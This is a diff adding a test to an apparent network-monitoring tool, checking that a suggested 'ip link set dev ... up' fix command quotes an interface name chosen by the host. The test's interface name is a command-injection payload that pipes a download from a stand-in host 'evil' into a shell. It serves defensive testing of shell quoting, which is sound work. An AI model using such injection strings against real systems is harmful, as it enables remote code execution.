@@ -73,3 +73,13 @@ describe("interface down that was up", () => {
     expect(summary(detectLinkDown(input([h])))).toEqual(expected);
   });
 });
+
+describe("fix commands with a name the host chose", () => {
+  test("an interface named like shell code is pasted as one quoted word", () => {
+    const name = "x;curl${IFS}evil|sh";
+    const h = host(1, [lan(1), nic(name, mac(7), ["10.0.0.7/24"], { state: "down" })], { lastUpAt: { [name]: "2026-03-01T11:50:00.000Z" } });
+    const [f] = detectLinkDown(input([h]));
+    expect(f?.fix).toContain("`ip link set dev 'x;curl${IFS}evil|sh' up`");
+    expect(f?.fix).not.toContain(`dev ${name} up`);
+  });
+});
